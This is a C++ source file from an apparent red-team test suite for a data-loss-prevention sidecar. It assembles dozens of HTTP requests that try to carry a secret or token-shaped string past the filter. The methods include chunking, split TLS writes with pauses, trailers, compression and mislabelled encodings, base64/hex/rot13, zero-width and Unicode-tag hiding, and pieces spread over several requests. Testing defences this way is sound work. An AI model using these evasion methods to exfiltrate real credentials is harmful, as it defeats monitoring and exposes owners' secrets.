// 3.20 to 3.29: a secret carried out in a body: chunks, writes, encodings, forms (A12, A15, J).
#include <poll.h>

#include <utility>

#include "core/base/text.hpp"
#include "sidecar/attack/encode.hpp"
#include "sidecar/attack/http.hpp"

namespace bot_bottle::attack {
namespace {

Outcome post(const Context& context, const std::string& type, const std::string& body, const std::string& extra = {},
             unsigned accepted = accept::refusal) {
  return judge(
      context,
      ask_tls(context, request("POST", "/upload", context.origin, "Content-Type: " + type + "\r\n" + extra, body)),
      accepted);
}

std::string chunk(std::string_view data) {
  constexpr std::string_view digits = "0123456789abcdef";
  std::string size;
  for (std::size_t rest = data.size(); rest > 0; rest /= 16) size.insert(size.begin(), digits[rest % 16]);
  return size + "\r\n" + std::string(data) + "\r\n";
}

std::string chunked_request(const Context& context, const std::string& body, const std::string& extra = {}) {
  return request("POST", "/upload", context.origin,
                 "Content-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n" + extra) +
         body;
}

/// Sends the parts with `pause_ms` between, each in a TLS record of its own, and judges the one answer.
Outcome post_parts(const Context& context, const std::vector<std::string>& parts, int pause_ms) {
  Tunnel tunnel = open_tunnel(context);
  if (tunnel.response.status != 200) return failed("no tunnel: " + tunnel.response.failure);
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i > 0) ::poll(nullptr, 0, pause_ms);  // the attack is the pause: what came first may be on its way by now
    if (auto sent = tunnel.channel->write(parts[i]); !sent) break;  // refused early: the answer is waiting
  }
  return judge(context, tunnel.channel->read_response());
}

void add_plain_bodies(std::vector<Attempt>& out) {
  Subject bodies(out, "3.20", "dlp", Needs::egress);
  const std::pair<const char*, std::string (*)(const Context&)> kinds[] = {
      {"a known secret", [](const Context& context) { return context.stolen; }},
      {"a GitHub-shaped token", [](const Context&) { return github_token(); }},
      {"an AWS-shaped key id", [](const Context&) { return aws_key_id(); }},
      {"a Slack-shaped token", [](const Context&) { return slack_token(); }},
  };
  for (const auto& [name, make] : kinds) {
    const std::string what = name;
    bodies.add(what + " in a JSON body", [make = make](const Context& context) {
      return post(context, "application/json", R"({"note": ")" + make(context) + R"("})");
    });
    bodies.add(what + " in a form", [make = make](const Context& context) {
      return post(context, "application/x-www-form-urlencoded", "a=b&note=" + make(context));
    });
    bodies.add(what + " in a multipart field", [make = make](const Context& context) {
      return post(context, "multipart/form-data; boundary=frontier",
                  "--frontier\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n" +
                      make(context) + "\r\n--frontier--\r\n");
    });
    bodies.add(what + " as a multipart file name (A15)", [make = make](const Context& context) {
      return post(context, "multipart/form-data; boundary=frontier",
                  "--frontier\r\nContent-Disposition: form-data; name=\"f\"; filename=\"" + make(context) +
                      "\"\r\n\r\nx\r\n--frontier--\r\n");
    });
    bodies.add(what + " behind 300 KiB of text", [make = make](const Context& context) {
      return post(context, "text/plain", filler(300 * 1024) + " " + make(context) + " " + filler(1000));
    });
    bodies.add(what + " in one chunk", [make = make](const Context& context) {
      return judge(context,
                   ask_tls(context, chunked_request(context, chunk("note=" + make(context) + " ") + "0\r\n\r\n")));
    });
    bodies.add(what + " split over two writes far apart (A12)", [make = make](const Context& context) {
      const std::string secret = make(context);
      const std::size_t half = secret.size() / 2;
      const std::string body = "note=" + secret + " end";
      const std::string head =
          request("POST", "/upload", context.origin,
                  "Content-Type: text/plain\r\nContent-Length: " + std::to_string(body.size()) + "\r\n");
      return post_parts(context, {head + "note=" + secret.substr(0, half), secret.substr(half) + " end"}, 400);
    });
  }
  bodies.add("a known secret in a body declared as an image (A15)",
             [](const Context& context) { return post(context, "image/png", "\x89PNG\r\n" + context.stolen); });
  bodies.add("a known secret across the 16, 32 and 64 KiB marks", [](const Context& context) {
    Outcome result = blocked("");
    for (std::size_t mark : {std::size_t{16384}, std::size_t{32768}, std::size_t{65536}})
      result = worse(result, post(context, "text/plain",
                                  filler(mark - context.stolen.size() / 2) + context.stolen + filler(5000)));
    return result;
  });
  bodies.add("a known secret in the body of a PUT, a PATCH, a DELETE and a GET", [](const Context& context) {
    Outcome result = blocked("");
    for (const char* method : {"PUT", "PATCH", "DELETE", "GET"})
      result = worse(
          result, judge(context, ask_tls(context, request(method, "/x", context.origin, "Content-Type: text/plain\r\n",
                                                          "d=" + context.stolen))));
    return result;
  });
  // How the bodies of models' APIs carry files: the value is known to nobody, its name gives it away, and each quote
  // has its backslashes (unit test Quoting.every_sample_is_found_in_strings_of_json_in_each_other).
  const std::pair<const char*, const char*> depths[] = {{"a string of JSON", R"(\")"},
                                                        {"a string in a string of JSON", R"(\\\")"}};
  for (const auto& [where, quote] : depths)
    bodies.add(std::string("a password in JSON inside of ") + where,
               [quote = std::string(quote)](const Context& context) {
                 const std::string assignment =
                     "{" + quote + "password" + quote + ": " + quote + random_text(40) + "7" + quote + "}";
                 return post(context, "application/json", R"({"content": ")" + assignment + R"("})");
               });
}

void add_chunks(std::vector<Attempt>& out) {
  Subject chunks(out, "3.21", "dlp", Needs::egress);
  chunks.add(
      "a known secret in chunks, split at every octet in turn (A12)",
      [](const Context& context) {
        const std::string text = "note=" + context.stolen + " ";
        Outcome result = blocked("");
        for (std::size_t at = 5; at <= text.size() - 1 && result.verdict == Verdict::blocked; ++at) {
          result = judge(context, ask_tls(context, chunked_request(context, chunk(text.substr(0, at)) +
                                                                                chunk(text.substr(at)) + "0\r\n\r\n")));
          result.detail += ", split " + std::to_string(at);
        }
        return result;
      },
      std::chrono::seconds(90));
  chunks.add("a known secret in chunks of one octet (A12)", [](const Context& context) {
    std::string body;
    for (char c : "note=" + context.stolen + " ") body += chunk({&c, 1});
    return judge(context, ask_tls(context, chunked_request(context, body + "0\r\n\r\n")));
  });
  chunks.add("a known secret in TLS records of one octet (A12)", [](const Context& context) {
    const std::string body = "note=" + context.stolen + " end";
    std::vector<std::string> parts{
        request("POST", "/upload", context.origin,
                "Content-Type: text/plain\r\nContent-Length: " + std::to_string(body.size()) + "\r\n")};
    for (char c : body) parts.emplace_back(1, c);
    return post_parts(context, parts, 0);
  });
  chunks.add("a known secret in a trailer", [](const Context& context) {
    return judge(
        context,
        ask_tls(context, chunked_request(context, chunk("hello") + "0\r\nX-Note: " + context.stolen + "\r\n\r\n",
                                         "Trailer: X-Note\r\n")),
        accept::bad_request);
  });
  chunks.add("a known secret as the name of a trailer", [](const Context& context) {
    return judge(context,
                 ask_tls(context, chunked_request(context, chunk("hello") + "0\r\n" + context.stolen + ": x\r\n\r\n")),
                 accept::bad_request);
  });
  chunks.add("a known secret in a chunk extension", [](const Context& context) {
    Response response = ask_tls(context, chunked_request(context, "5;" + context.stolen + "\r\nhello\r\n0\r\n\r\n"));
    // Extensions are hop by hop (RFC 9112 §7.1.1): leaving them out is a documented answer; the origin's log is the
    // proof.
    if (auto echo = echo_of(response);
        echo && get_string(*echo, "body") == "hello" && !get_bool(*echo, "chunk_extensions", true))
      return blocked("left out");
    return judge(context, response, accept::bad_request);
  });
  chunks.add("a credential smuggled in as a trailer field Authorization (A10)", [](const Context& context) {
    const std::string foreign = random_text(24);
    Response response =
        ask_tls(context, chunked_request(context, chunk("hello") + "0\r\nAuthorization: Bearer " + foreign + "\r\n\r\n",
                                         "Trailer: Authorization\r\n"));
    if (echo_of(response) && response.body.find(foreign) == std::string::npos) return blocked("removed");
    return judge(context, response, accept::bad_request);
  });
}

void add_compressed(std::vector<Attempt>& out) {
  Subject compressed(out, "3.22", "dlp", Needs::egress);
  using Body = std::string (*)(const std::string&);
  struct Case {
    const char* text;
    const char* encoding;
    Body make;
  };
  const Case cases[] = {
      {"gzip", "gzip", [](const std::string& s) { return deflated(s, Wrapper::gzip); }},
      {"gzip, named x-gzip", "x-gzip", [](const std::string& s) { return deflated(s, Wrapper::gzip); }},
      {"gzip, named GZIP", "GZIP", [](const std::string& s) { return deflated(s, Wrapper::gzip); }},
      {"deflate", "deflate", [](const std::string& s) { return deflated(s, Wrapper::zlib); }},
      {"raw deflate", "deflate", [](const std::string& s) { return deflated(s, Wrapper::raw); }},
      {"gzip in gzip", "gzip, gzip",
       [](const std::string& s) { return deflated(deflated(s, Wrapper::gzip), Wrapper::gzip); }},
      {"gzip that is not declared (A15)", "", [](const std::string& s) { return deflated(s, Wrapper::gzip); }},
      {"gzip declared as identity (A15)", "identity", [](const std::string& s) { return deflated(s, Wrapper::gzip); }},
      {"plain text declared as gzip (A15)", "gzip", [](const std::string& s) { return s; }},
      {"gzip with plain text after its end", "gzip",
       [](const std::string& s) { return deflated("nothing", Wrapper::gzip) + s; }},
      {"two gzip members", "gzip",
       [](const std::string& s) { return deflated("nothing", Wrapper::gzip) + deflated(s, Wrapper::gzip); }},
      {"gzip cut short", "gzip",
       [](const std::string& s) { return deflated(s + filler(2000), Wrapper::gzip).substr(0, 90); }},
      {"an unknown encoding (A15)", "compress", [](const std::string& s) { return "\x1f\x9d" + s; }},
      {"a made-up encoding over xor (A15)", "x-own",
       [](const std::string& s) {
         std::string hidden = s;
         for (char& c : hidden) c = static_cast<char>(c ^ 0x55);
         return hidden;
       }},
  };
  for (const auto& [text, encoding, make] : cases)
    compressed.add(std::string("a known secret in a body as ") + text,
                   [encoding = std::string(encoding), make = make](const Context& context) {
                     return post(context, "application/json", make(R"({"note": ")" + context.stolen + R"("})"),
                                 encoding.empty() ? "" : "Content-Encoding: " + encoding + "\r\n",
                                 accept::bad_request | accept::media);
                   });
  compressed.add("a GitHub-shaped token in a gzip body", [](const Context& context) {
    return post(context, "application/json", deflated(R"({"note": ")" + github_token() + R"("})", Wrapper::gzip),
                "Content-Encoding: gzip\r\n");
  });
}

void add_disguised_bodies(std::vector<Attempt>& out) {
  Subject bodies(out, "3.23", "dlp", Needs::egress);
  using Disguise = std::string (*)(const std::string&);
  const std::pair<const char*, Disguise> cases[] = {
      {"base64, alignment 0", [](const std::string& s) { return base64_at(s, 0); }},
      {"base64, alignment 1", [](const std::string& s) { return base64_at(s, 1); }},
      {"base64, alignment 2", [](const std::string& s) { return base64_at(s, 2); }},
      {"hex", [](const std::string& s) { return hex_encode(s); }},
      {"percent", [](const std::string& s) { return percent(s); }},
      {"double percent", [](const std::string& s) { return percent(s, 2); }},
  };
  for (const auto& [text, make] : cases)
    bodies.add(std::string("a known secret in a text body as ") + text, [make = make](const Context& context) {
      return post(context, "text/plain; charset=utf-8", "here it is: " + make(context.stolen) + " , bye");
    });
}

/// Beyond the encodings programs use: what somebody who knows of DLP would do (J).
void add_tricks(std::vector<Attempt>& out) {
  Subject bodies(out, "3.24", "dlp", Needs::egress);
  using Disguise = std::string (*)(const std::string&);
  const std::pair<const char*, Disguise> cases[] = {
      {"base64 with line breaks",
       [](const std::string& s) {
         std::string lines = base64_at(s, 0);
         for (std::size_t at = 16; at < lines.size(); at += 17) lines.insert(at, "\n");
         return lines;
       }},
      {"hex with spaces", [](const std::string& s) { return hex_with(s, " "); }},
      {"JSON unicode escapes", [](const std::string& s) { return json_escapes(s); }},
      {"HTML entities", [](const std::string& s) { return html_entities(s); }},
      {"base32", [](const std::string& s) { return base32(s); }},
      {"reversed", [](const std::string& s) { return reversed(s); }},
      {"rot13", [](const std::string& s) { return rot13(s); }},
      {"base64 of hex", [](const std::string& s) { return base64_at(hex_encode(s), 0); }},
      {"base64 of base64", [](const std::string& s) { return base64_at(base64_at(s, 0), 0); }},
      {"base64 of gzip", [](const std::string& s) { return base64_at(deflated(s, Wrapper::gzip), 0); }},
      {"letters apart by spaces", [](const std::string& s) { return spaced(s, " "); }},
      {"letters apart by line breaks", [](const std::string& s) { return spaced(s, "\n"); }},
      {"letters apart by zero-width spaces", [](const std::string& s) { return spaced(s, "\xe2\x80\x8b"); }},
      {"letters apart by variation selectors", [](const std::string& s) { return spaced(s, "\xef\xb8\x8f"); }},
      {"Unicode tag characters", [](const std::string& s) { return unicode_tags(s); }},
      {"full-width letters", [](const std::string& s) { return full_width(s); }},
  };
  for (const auto& [text, make] : cases)
    bodies.add(std::string("a known secret in a text body as ") + text, [make = make](const Context& context) {
      return post(context, "text/plain; charset=utf-8", "here it is: " + make(context.stolen) + " , bye");
    });
  bodies.add("a known secret over fields of one JSON message", [](const Context& context) {
    const std::size_t half = context.stolen.size() / 2;
    return post(context, "application/json",
                R"({"a": ")" + context.stolen.substr(0, half) + R"(", "b": ")" + context.stolen.substr(half) + R"("})");
  });
  bodies.add("a known secret in a JSON-RPC batch (A15)", [](const Context& context) {
    return post(
        context, "application/json",
        R"([{"jsonrpc": "2.0", "id": 1, "method": "ping"}, {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "x", "arguments": {"q": ")" +
            json_escapes(context.stolen) + R"("}}}])");
  });
  bodies.add("a known secret in UTF-16", [](const Context& context) {
    return post(context, "text/plain; charset=utf-16le",
                spaced(context.stolen, std::string_view("\0", 1)) + std::string(1, '\0'));
  });
}

/// Pieces over several requests: what was sent must have been stopped before the last piece (spec: ≥ 60 % of the
/// 6-grams).
Outcome send_pieces(const Context& context, const std::vector<std::string>& pieces, bool overlap) {
  for (std::size_t i = 0; i < pieces.size(); ++i) {
    std::string piece = pieces[i];
    if (overlap && i > 0)
      piece = pieces[i - 1].substr(pieces[i - 1].size() - std::min<std::size_t>(5, pieces[i - 1].size())) + piece;
    Outcome outcome = judge(
        context, ask_tls(context, request("GET", "/piece?n=" + std::to_string(i) + "&d=" + piece, context.origin)));
    if (outcome.verdict == Verdict::blocked)
      return blocked("at piece " + std::to_string(i + 1) + " of " + std::to_string(pieces.size()) + ": " +
                     outcome.detail);
    if (outcome.verdict == Verdict::error) return outcome;
  }
  return escaped("all pieces got through");
}

void add_fragments(std::vector<Attempt>& out) {
  Subject fragments(out, "3.29", "dlp", Needs::egress);  // last: what the sidecar remembers of it lasts an hour
  fragments.add("a known secret in three overlapping pieces over three requests (A12, J)", [](const Context& context) {
    const std::string& s = context.stolen;
    const std::size_t third = s.size() / 3;
    return send_pieces(context, {s.substr(0, third), s.substr(third, third), s.substr(2 * third)}, true);
  });
}

}  // namespace

void add_exfiltrate_body(std::vector<Attempt>& out, const Context& context) {
  if (context.stolen.size() < 8) return;
  add_plain_bodies(out);
  add_chunks(out);
  add_compressed(out);
  add_disguised_bodies(out);
  add_tricks(out);
  if (context.stolen.size() >= 24) add_fragments(out);
}

}  // namespace bot_bottle::attack
